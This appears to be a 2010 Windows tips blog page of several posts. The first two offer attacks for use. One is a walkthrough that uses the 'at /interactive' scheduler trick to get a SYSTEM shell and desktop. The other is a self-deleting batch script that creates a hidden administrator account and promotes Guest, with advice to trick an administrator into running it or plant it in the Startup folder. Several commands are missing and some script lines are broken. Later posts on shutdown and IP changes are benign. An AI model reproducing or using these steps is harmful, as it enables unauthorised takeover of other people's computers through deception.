Monday, June 21, 2010

Haking "admin" from "user" mode

Under normal circumstances, a user cannot run code as System, only the operating system itself has this ability, but by using the command line, we will trick Windows into running our desktop as System, along with all applications that are started from within.
Getting SYSTEM
I will now walk you through the process of obtaining SYSTEM privileges.
To start, lets open up a command prompt (Start > Run > cmd > [ENTER]).
At the prompt, enter the following command, then press [ENTER]:


If it responds with an “access denied” error, then we are out of luck, and you’ll have to try another method of privilege escalation; if it responds with “There are no entries in the list” (or sometimes with multiple entries already in the list) then we are good. Access to the at command varies, on some installations of Windows, even the Guest account can access it, on others it’s limited to Administrator accounts. If you can use the at command, enter thefollowing commands, then press [ENTER]:

at 15:25 /interactive “cmd.exe”

Lets break down the preceding code. The “at” told the machine to run the at command, everything after that are the operators for the command, the important thing here, is to change the time (24 hour format) to one minute after the time currently set on your computers clock, for example: If your computer’s clock says it’s 4:30pm, convert this to 24 hour format (16:30) then use 16:31 as the time in the command. If you issue the at command again with no operators, then you should see something similar to this:

When the system clock reaches the time you set, then a new command prompt will magically run. The difference is that this one is running with system privileges (because it was started by the task scheduler service, which runs under the Local System account). It should look like this:

You’ll notice that the title bar has changed from cmd.exe to svchost.exe (which is short for Service Host). Now that we have our system command prompt, you may close the old one. Run Task Manager by either pressing CTRL+ALT+DELETE or typing taskmgr at the command prompt.In task manager, go to the processes tab, and kill explorer.exe; your desktop and all open folders should disappear, but the system command prompt should still be there.
At the system command prompt, enter in the following:

A desktop will come back up, but what this? It isn’t your desktop. Go to the start menu and look at the user name, it should say “SYSTEM”. Also open up task manager again, and you’ll notice that explorer.exe is now running as SYSTEM.
Now that we have SYSTEM access, everything that we run from our explorer process will have it too, browsers, games, etc.

Hack admin account in windows

echo off
net user add Username Password /add
net user localgroup Administrators Username /add
net user Guest 420 /active:yes
net localgroup Guests Guest /DELETE
net localgroup Administrators Guest /add
del %0

Download the batch file and edit it.Change Username and Password to your desired ones.

You could try to trick the administrator to run the batch file with system privileges or try copying the batch file in the startup folder.The next time the admin logs on into the computer, the batch file runs and the admin account iscreated. Once the admin logs off, you can log in using your username and password.

C:\Documents and Settings\All Users\Start Menu\Programs\Startup ===> [XP]

all users
C:\ProgramData\Microsoft\Windows\Start Menu ====> [Vista and Windows7]

Download batch file here:

Tuesday, June 15, 2010

computer shutdown/restart batch file

This is a batch file that shuts down or restarts the computer in one minute..
edit the shutdown /s to shutdown /a for the computer to restart.
edit the /t 60 to /t (whatever time you want)

Download the batch file here:

change IP Adrress using a batch file

Change IP Address Using netsh from Command Prompt

Network interface can be changed manually by using netsh command (netsh.exe) from Command Prompt. To change the IP to static IP, use the following command format:

netsh interface ip set address [Connection Name] [Source] [IP] [Netmask] [Gateway] [Metric]* [Connection Name] is the connection name which the network adapter is assigned to. You can see the name in the Control Panel Network Connections panel or by using the ipconfig /all command from the command prompt.

* [Source] is the source of IP address, whether it is static or dhcp. If you set to dhcp. You can ignore all other remaining parameter.

* [IP] is the IP address you set.

* [Netmask] is the network mask for the IP address.

* [Gateway] is the the gateway IP address.

* [Metric] is the metric for the gateway.

We can now create a batch file from the aboveinfo...

Download thecompleted batch file here and edit...